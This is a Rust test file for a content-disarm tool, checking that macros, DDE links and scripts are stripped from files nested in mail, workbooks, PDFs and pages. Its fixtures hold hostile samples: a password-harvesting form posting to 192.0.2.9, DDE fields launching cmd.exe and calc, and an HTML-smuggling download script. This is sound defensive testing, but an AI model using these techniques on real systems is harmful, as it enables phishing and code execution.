//! Content put back where it stood: blocks of uuencode, TNEF, bodies of Outlook, parts of binary workbooks, files in PDFs.

use std::io::{Cursor, Read as _, Write as _};

use sekisho::engine::Worker;
use sekisho::model::Report;

use crate::bench::engine;
use crate::build::{self, Part, compound, zip};
use crate::build_links::{package, paragraph, relationships, word};
use crate::disarm::{disarm, with_macro};
use crate::disarm_mail::stream;
use crate::fixtures::pdf;
use crate::support::Folder;

/// What is made of a file, and the scan of it; disarmed again it stays.
pub(crate) fn made(name: &str, data: &[u8]) -> (Vec<u8>, Report) {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let (_, made) = disarm(&engine, &mut worker, name, data);
    let proven = made.expect("findings").expect("a result");
    let new = proven.made.data.to_vec();
    assert!(disarm(&engine, &mut worker, name, &new).1.is_none());
    (new, proven.report)
}

pub(crate) fn refused(name: &str, data: &[u8]) -> String {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let (_, made) = disarm(&engine, &mut worker, name, data);
    made.expect("findings").unwrap_err().to_string()
}

/// uuencode as old mail programs write it.
pub(crate) fn uuencoded(name: &str, data: &[u8]) -> String {
    let sign =
        |six: u32| char::from(u8::try_from(if six == 0 { 0x60 } else { six + 0x20 }).unwrap());
    let mut out = format!("begin 644 {name}\r\n");
    for line in data.chunks(45) {
        out.push(sign(u32::try_from(line.len()).unwrap()));
        for three in line.chunks(3) {
            let byte = |at: usize| u32::from(three.get(at).copied().unwrap_or_default());
            let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
            out.extend([18, 12, 6, 0].map(|shift| sign(bits >> shift & 63)));
        }
        out.push_str("\r\n");
    }
    out + "`\r\nend\r\n"
}

#[test]
fn blocks_in_a_text_are_written_anew_and_the_text_around_them_stays() {
    let block = uuencoded("report.docm", &with_macro());
    let other = uuencoded("list.txt", b"one\r\ntwo\r\n");
    let head = "From: a@a.example\r\nSubject: x\r\n\r\nHello\r\n\r\n";
    let message = format!("{head}{block}{other}Bye\r\n");
    let (new, report) = made("a.eml", message.as_bytes());
    let new = String::from_utf8(new).unwrap();
    assert!(
        new.contains("Hello\r\n\r\nbegin 644 report.docm\r\nM"),
        "{new}"
    );
    assert!(
        new.ends_with(&format!("`\r\nend\r\n{other}Bye\r\n")),
        "{new}"
    );
    let kept = report
        .artifacts
        .iter()
        .find(|one| one.kind.as_str() == "docm");
    assert_eq!(kept.unwrap().via, Some("uuencoded"));
    // A text by itself, and a program, in whose place a line stands.
    let text = format!("{block}{}Bye\r\n", uuencoded("a.exe", &build::program()));
    let (new, _) = made("a.txt", text.as_bytes());
    let new = String::from_utf8(new).unwrap();
    assert!(
        new.starts_with("begin 644 report.docm\r\nM") && new.ends_with("Bye\r\n"),
        "{new}"
    );
    assert!(!new.contains("a.exe\r\nM"), "{new}");
}

#[test]
fn a_part_that_is_uuencoded_stays_so() {
    let headers = "Content-Type: application/octet-stream; name=\"report.docm\"\nContent-Transfer-Encoding: x-uuencode";
    let body = uuencoded("report.docm", &with_macro()).into_bytes();
    let message = build::mail("x", &[Part { headers, body }]);
    let (new, report) = made("a.eml", &message);
    let new = String::from_utf8(new).unwrap();
    let wanted = format!(
        "{}\r\n\r\nbegin 644 report.docm\r\nM",
        headers.replace('\n', "\r\n")
    );
    assert!(new.contains(&wanted), "{new}");
    assert!(
        report
            .artifacts
            .iter()
            .any(|one| one.kind.as_str() == "docm")
    );
    // Nothing can be put into what no reader knows.
    let headers = "Content-Type: application/octet-stream; name=\"report.docm\"\nContent-Transfer-Encoding: x-other";
    let body = build::base64(&with_macro());
    let message = build::mail("x", &[Part { headers, body }]);
    assert!(refused("a.eml", &message).contains("vba-macro"));
}

fn attribute(level: u8, id: u32, data: &[u8]) -> Vec<u8> {
    let sum = data
        .iter()
        .fold(0u16, |sum, byte| sum.wrapping_add(u16::from(*byte)));
    let size = u32::try_from(data.len()).unwrap();
    [
        &[level][..],
        &id.to_le_bytes(),
        &size.to_le_bytes(),
        data,
        &sum.to_le_bytes(),
    ]
    .concat()
}

#[test]
fn attachments_in_tnef_are_disarmed_in_place() {
    let message = |file: &[u8]| {
        [
            &0x223e_9f78u32.to_le_bytes()[..],
            &[1, 0],
            &attribute(1, 0x0008_9006, &[0, 0, 1, 0]),
            &attribute(1, 0x0001_8004, b"subject\0"),
            &attribute(2, 0x0006_9002, &[1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
            &attribute(2, 0x0001_8010, b"report.docm\0"),
            &attribute(2, 0x0006_800f, file),
            &attribute(2, 0x0003_8012, &[0; 14]),
        ]
        .concat()
    };
    let (new, report) = made("winmail.dat", &message(&with_macro()));
    let document = report
        .artifacts
        .iter()
        .find(|one| one.kind.as_str() == "docm")
        .unwrap();
    assert_eq!(new, message(&document.data));
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    assert!(refused("winmail.dat", &message(&build::program())).contains("executable"));
}

/// A message of Outlook with a body in a property of this tag.
pub(crate) fn outlook(tag: u32, body: &[u8]) -> Vec<u8> {
    let subject: Vec<u8> = "Report".encode_utf16().flat_map(u16::to_le_bytes).collect();
    // The size of a text counts its end.
    let end = if tag & 0xffff == 0x1f { 2 } else { 0 };
    let mut list = vec![0; 32];
    for (tag, size) in [(0x0037_001fu32, subject.len() + 2), (tag, body.len() + end)] {
        list.extend(tag.to_le_bytes());
        list.extend(6u32.to_le_bytes());
        list.extend(u64::try_from(size).unwrap().to_le_bytes());
    }
    let streams = [
        ("/__properties_version1.0".to_owned(), list),
        ("/__substg1.0_0037001F".to_owned(), subject),
        (format!("/__substg1.0_{tag:08X}"), body.to_vec()),
    ];
    compound(&streams)
}

/// PidTagHtml as bytes.
const HTML: u32 = 0x1013_0102;

#[test]
fn the_page_of_a_message_of_outlook_is_disarmed_in_its_property() {
    let form = |inside: &str| {
        format!(
            "<html><body><p>Hello</p>{inside}<p>Bye, and thank you for reading all of this.</p></body></html>"
        )
    };
    let bad = "<form action=\"http://192.0.2.9/in.php\" method=\"post\">Mail: <input name=\"mail\"> Password: <input type=\"password\" name=\"word\"><input type=\"submit\"></form>";
    let (new, report) = made("a.msg", &outlook(HTML, form(bad).as_bytes()));
    assert!(
        report
            .findings
            .iter()
            .all(|one| one.id != "credential-form")
    );
    let mut file = cfb::CompoundFile::open_strict(Cursor::new(new)).unwrap();
    let page = stream(&mut file, "/__substg1.0_10130102");
    let list = stream(&mut file, "/__properties_version1.0");
    let text = String::from_utf8(page.clone()).unwrap();
    assert!(
        text.contains("Hello") && text.contains("Bye") && !text.contains("192.0.2.9"),
        "{text}"
    );
    assert_eq!(
        list[32 + 16 + 8..32 + 16 + 12],
        u32::try_from(page.len()).unwrap().to_le_bytes()
    );
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let harmless = outlook(HTML, form("").as_bytes());
    assert!(disarm(&engine, &mut worker, "a.msg", &harmless).1.is_none());
}

/// A record of a binary workbook.
pub(crate) fn record(id: u16, body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    if id < 0x80 {
        out.push(u8::try_from(id).unwrap());
    } else {
        out.push(u8::try_from(id & 0x7f).unwrap() | 0x80);
        out.push(u8::try_from(id >> 7).unwrap());
    }
    out.push(u8::try_from(body.len() & 0x7f).unwrap() | 0x80);
    out.push(u8::try_from(body.len() >> 7).unwrap());
    out.extend_from_slice(body);
    out
}

pub(crate) fn wide(text: &str) -> Vec<u8> {
    let units: Vec<u16> = text.encode_utf16().collect();
    let mut out = u32::try_from(units.len()).unwrap().to_le_bytes().to_vec();
    out.extend(units.iter().flat_map(|unit| unit.to_le_bytes()));
    out
}

pub(crate) const RELATIONS: &str =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// PtgNameX to the first name of a reference.
fn asking(reference: u8) -> [u8; 7] {
    [0x59, reference, 0, 1, 0, 0, 0]
}

/// A cell with a formula: its column, its number, tokens.
fn number(column: u8, tokens: &[u8]) -> Vec<u8> {
    let body = [
        &[column, 0, 0, 0, 0, 0, 0, 0][..],
        &4f64.to_le_bytes(),
        &[0, 0],
        &u32::try_from(tokens.len()).unwrap().to_le_bytes(),
        tokens,
        &[0; 4],
    ];
    record(9, &body.concat())
}

/// A binary workbook with a link to another workbook and a conversation, cells that ask either, an object that is linked,
/// and one that is packed.
fn workbook(service: &str) -> Vec<u8> {
    let references = [2u32, 1, u32::MAX - 1, u32::MAX - 1, 0, 0, 0];
    let references: Vec<u8> = references
        .iter()
        .flat_map(|one| one.to_le_bytes())
        .collect();
    let bundle = [&[0, 0, 0, 0, 1, 0, 0, 0][..], &wide("rId0"), &wide("Sheet")].concat();
    let label = |tokens: &[u8]| {
        [
            &[0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff][..],
            &wide("rate"),
            &u32::try_from(tokens.len()).unwrap().to_le_bytes(),
            tokens,
            &[0; 4],
            &u32::MAX.to_le_bytes(),
        ]
        .concat()
    };
    let book = [
        record(131, &[]),
        record(143, &[]),
        record(156, &bundle),
        record(144, &[]),
        record(353, &[]),
        record(355, &wide("rId1")),
        record(355, &wide("rId2")),
        record(362, &references),
        record(354, &[]),
        record(39, &label(&asking(0))),
        record(132, &[]),
    ];
    let object = |flags: u8, rest: &[u8]| {
        let head = [1, 0, 0, 0, 1, 0, 0, 0, 1, 4, 0, 0, flags, 0];
        record(639, &[&head[..], rest].concat())
    };
    let link = [&wide("")[..], &[7, 0, 0, 0], &asking(0), &[0; 4]].concat();
    let sheet = [
        record(129, &[]),
        record(145, &[]),
        record(0, &[0; 25]),
        number(0, &asking(0)),
        number(1, &asking(1)),
        number(2, &[0x1e, 7, 0]),
        record(146, &[]),
        record(638, &[]),
        object(1, &link),
        record(640, &[]),
        record(130, &[]),
    ];
    let link = |kind: u16, first: &str, second: &str| {
        let begin = [&kind.to_le_bytes()[..], &wide(first), &wide(second)].concat();
        [
            record(360, &begin),
            record(577, &wide("A1")),
            record(588, &[]),
        ]
        .concat()
    };
    let kind = |word: &str| format!("{RELATIONS}/{word}");
    let parts = [
        ("xl/workbook.bin", book.concat()),
        (
            "xl/_rels/workbook.bin.rels",
            relationships(&[
                (&kind("worksheet"), "worksheets/sheet1.bin", false),
                (
                    &kind("externalLink"),
                    "externalLinks/externalLink1.bin",
                    false,
                ),
                (
                    &kind("externalLink"),
                    "externalLinks/externalLink2.bin",
                    false,
                ),
                (&kind("calcChain"), "calcChain.bin", false),
            ]),
        ),
        ("xl/worksheets/sheet1.bin", sheet.concat()),
        ("xl/externalLinks/externalLink1.bin", link(0, "rId0", "")),
        (
            "xl/externalLinks/_rels/externalLink1.bin.rels",
            relationships(&[(&kind("externalLinkPath"), "other.xlsx", true)]),
        ),
        (
            "xl/externalLinks/externalLink2.bin",
            link(1, service, "/c calc.exe"),
        ),
        ("xl/calcChain.bin", record(365, &[0; 9])),
    ];
    package(
        "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
        "xl/workbook.bin",
        &parts,
    )
}

pub(crate) fn members(data: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = ::zip::ZipArchive::new(Cursor::new(data)).unwrap();
    (0..archive.len())
        .map(|at| {
            let mut member = archive.by_index(at).unwrap();
            let mut content = Vec::new();
            member.read_to_end(&mut content).unwrap();
            (member.name().unwrap().into_owned(), content)
        })
        .collect()
}

#[test]
fn a_conversation_leaves_a_binary_workbook_with_all_that_asks_it() {
    let data = workbook("cmd");
    let (new, report) = made("a.xlsb", &data);
    assert!(report.findings.iter().all(|one| one.id != "dde-link"));
    let members = members(&new);
    let part = |name: &str| {
        members
            .iter()
            .find(|(known, _)| known == name)
            .map(|(_, data)| data)
    };
    assert!(part("xl/externalLinks/externalLink2.bin").is_none());
    assert!(part("xl/calcChain.bin").is_none());
    assert!(part("xl/externalLinks/externalLink1.bin").is_some());
    let sheet = part("xl/worksheets/sheet1.bin").unwrap();
    let value = [&[0, 0, 0, 0, 0, 0, 0, 0][..], &4f64.to_le_bytes()].concat();
    let wanted = [
        record(129, &[]),
        record(145, &[]),
        record(0, &[0; 25]),
        vec![5, 16],
        value,
        number(1, &asking(1)),
        number(2, &[0x1e, 7, 0]),
        record(146, &[]),
        record(130, &[]),
    ];
    assert_eq!(*sheet, wanted.concat());
    let book = part("xl/workbook.bin").unwrap();
    let has = |bytes: &[u8]| memchr::memmem::find(book, bytes).is_some();
    assert!(has(&wide("rId1")) && !has(&wide("rId2")));
    // The first reference leads to no sheet, the second to the link that is left, and the name has an error.
    let gone = [0u32, u32::MAX, u32::MAX, 0, 0, 0];
    let gone: Vec<u8> = gone.iter().flat_map(|one| one.to_le_bytes()).collect();
    assert!(has(&gone) && has(&[2, 0, 0, 0, 0x1c, 0x17]) && !has(&asking(0)));
}

#[test]
fn a_document_of_openoffice_1_loses_its_macros() {
    let declared = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE office:document-content PUBLIC \"-//OpenOffice.org//DTD OfficeDocument 1.0//EN\" \"office.dtd\">\n";
    let content = |declared: &str| {
        format!(
            "{declared}<office:document-content xmlns:office=\"http://openoffice.org/2000/office\" xmlns:script=\"http://openoffice.org/2000/script\" xmlns:text=\"http://openoffice.org/2000/text\"><office:script><office:events><script:event script:event-name=\"load\" script:language=\"StarBasic\" script:macro-name=\"Standard.Module1.Main\" script:location=\"document\"/></office:events></office:script><office:body><text:p>Report</text:p></office:body></office:document-content>"
        )
    };
    let document = |declared: &str| {
        zip(&[
            ("mimetype", b"application/vnd.sun.xml.writer".as_slice()),
            ("content.xml", content(declared).as_bytes()),
            ("Basic/Standard/Module1.xml", b"<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" script:language=\"StarBasic\">Sub Main\n MsgBox &quot;x&quot;\nEnd Sub</script:module>"),
            ("META-INF/manifest.xml", b"<?xml version=\"1.0\"?><!DOCTYPE manifest:manifest PUBLIC \"-//OpenOffice.org//DTD Manifest 1.0//EN\" \"Manifest.dtd\"><manifest:manifest xmlns:manifest=\"http://openoffice.org/2001/manifest\"><manifest:file-entry manifest:media-type=\"application/vnd.sun.xml.writer\" manifest:full-path=\"/\"/><manifest:file-entry manifest:media-type=\"text/xml\" manifest:full-path=\"content.xml\"/><manifest:file-entry manifest:media-type=\"text/xml\" manifest:full-path=\"Basic/Standard/Module1.xml\"/></manifest:manifest>"),
        ])
    };
    let (new, report) = made("a.sxw", &document(declared));
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    let members = members(&new);
    assert!(members.iter().all(|(name, _)| !name.starts_with("Basic")));
    let text = members
        .iter()
        .find(|(name, _)| name == "content.xml")
        .unwrap();
    let text = String::from_utf8(text.1.clone()).unwrap();
    assert!(
        text.starts_with(declared) && text.contains("Report") && !text.contains("Module1"),
        "{text}"
    );
    // With declarations of its own, a part may be read as anything.
    let own = declared.replace("\"office.dtd\"", "\"office.dtd\" [<!ENTITY a \"b\">]");
    assert!(refused("a.sxw", &document(&own)).contains("document type declaration"));
}

#[test]
fn a_document_in_a_pdf_goes_for_whatever_is_in_it() {
    let field = |code: &str| {
        format!(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        )
    };
    let dde = word(
        &field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "),
        &[],
    );
    let carrier = |file: &[u8]| {
        let mut head = Vec::new();
        write!(
            head,
            "<</Type/EmbeddedFile/Length {}>>\nstream\n",
            file.len()
        )
        .unwrap();
        let stream = [&head[..], file, b"\nendstream"].concat();
        let objects: [&[u8]; 5] = [
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
            b"<</Type/Filespec/F(report.docx)/EF<</F 5 0 R>>>>",
            &stream,
        ];
        pdf::document(&objects, "")
    };
    let (new, report) = made("a.pdf", &carrier(&dde));
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    assert!(memchr::memmem::find(&new, b"word/document.xml").is_none());
    assert!(memchr::memmem::find(&dde, b"word/document.xml").is_some());
    let plain = word(&paragraph("Report"), &[]);
    let (_, report) = made("a.pdf", &carrier(&plain));
    assert!(report.findings.is_empty(), "{:?}", report.findings);
}

#[test]
fn an_addin_that_is_none_any_more_is_a_document_by_its_type_and_its_name() {
    let book = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets/></workbook>";
    let addin = "application/vnd.ms-excel.addin.macroEnabled.main+xml";
    let plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let data = package(
        addin,
        "xl/workbook.xml",
        &[("xl/workbook.xml", book.to_vec())],
    );
    let folder = Folder::new();
    let file = folder.file("tools.xlam", &data);
    let out = folder.path("out");
    std::fs::create_dir(&out).unwrap();
    let run = folder.run(&[
        "disarm".as_ref(),
        file.as_os_str(),
        "-o".as_ref(),
        out.as_os_str(),
    ]);
    assert_eq!(run.code, 0, "{} {}", run.stdout, run.stderr);
    let new = members(&std::fs::read(out.join("tools.xlsx")).unwrap());
    let types = String::from_utf8(new[0].1.clone()).unwrap();
    assert!(types.contains(plain) && !types.contains("addin"), "{types}");
    assert!(
        new.iter()
            .any(|(name, data)| name == "xl/workbook.xml" && data == book)
    );
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 1);
    // The file itself stays, and a workbook keeps its name.
    assert_eq!(std::fs::read(&file).unwrap(), data);
    let data = package(
        plain,
        "xl/workbook.xml",
        &[("xl/workbook.xml", book.to_vec())],
    );
    let engine = engine();
    let mut worker = Worker::new(&engine);
    assert!(disarm(&engine, &mut worker, "a.xlsx", &data).1.is_none());
}

#[test]
fn a_document_that_a_page_carries_is_disarmed_or_goes_with_its_script() {
    let page = |file: &[u8], name: &str| {
        let text = String::from_utf8(build::base64(file)).unwrap();
        let text: String = text.split_whitespace().collect();
        format!(
            "<html><body><p>Report</p><script>var b=atob('{text}');var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));l.download='{name}';l.click();</script></body></html>"
        )
    };
    for (file, name) in [
        (with_macro(), "report.docm"),
        (word(&paragraph("Report"), &[]), "report.docx"),
        (zip(&[("report.docm", &with_macro())]), "report.zip"),
    ] {
        let (new, report) = made("a.html", page(&file, name).as_bytes());
        let text = String::from_utf8(new).unwrap();
        assert!(text.contains("<p>Report</p>"), "{name}: {text}");
        assert!(!text.contains("createObjectURL"), "{name}: {text}");
        assert!(report.findings.is_empty(), "{name}: {:?}", report.findings);
    }
}

/// Scripts of a page go where a browser opens it: what was given, or a file that a mail brings. Programs for mail run
/// none, and the pages of a manual in an archive stay as they are.
#[test]
fn ordinary_scripts_go_from_pages_that_are_opened() {
    let page =
        "<html><body onload=\"start()\"><p>Report</p><script>start = 1;</script></body></html>";
    let (new, report) = made("a.html", page.as_bytes());
    assert_eq!(new, b"<html><body><p>Report</p></body></html>");
    assert!(report.findings.is_empty(), "{report:?}");
    let mail = |headers: &str| {
        format!(
            "From: a@b.example\r\nTo: c@d.example\r\nSubject: Report\r\nDate: Fri, 27 Nov 2026 10:00:00 +0900\r\n\
             Message-ID: <1@b.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
             --b\r\nContent-Type: text/html\r\n{headers}\r\n{page}\r\n--b--\r\n"
        )
    };
    let named = "Content-Disposition: attachment; filename=\"a.html\"\r\n";
    let (new, _) = made("a.eml", mail(named).as_bytes());
    let text = String::from_utf8(new).unwrap();
    assert!(text.contains("<body><p>Report</p></body>"), "{text}");
    let engine = engine();
    let mut worker = Worker::new(&engine);
    for (name, data) in [
        ("a.eml", mail("").into_bytes()),
        ("a.zip", zip(&[("a.html", page.as_bytes())])),
    ] {
        assert!(
            disarm(&engine, &mut worker, name, &data).1.is_none(),
            "{name}"
        );
    }
}

#[test]
fn an_archive_that_becomes_a_zip_is_written_where_it_was_said() {
    let folder = Folder::new();
    let mut tar = tar::Builder::new(Vec::new());
    let data = with_macro();
    let mut header = tar::Header::new_gnu();
    header.set_size(data.len() as u64);
    header.set_mode(0o644);
    tar.append_data(&mut header, "a.docm", data.as_slice())
        .unwrap();
    folder.file("a.tar", tar.into_inner().unwrap());
    for (options, written) in [
        (&["-o", "out.tar"][..], "out.tar"),
        (&["-o", "out.new", "--rename"], "out.zip"),
        (&["-o", "."], "a.zip"),
    ] {
        let run = folder.run(&[&["disarm", "a.tar"][..], options].concat());
        assert_eq!(run.code, 0, "{run:?}");
        let made = std::fs::read(folder.path(written)).unwrap();
        assert!(made.starts_with(b"PK"), "{written}");
        assert!(run.stdout.contains(written), "{run:?}");
    }
    assert!(!folder.path("out.new").exists());
}
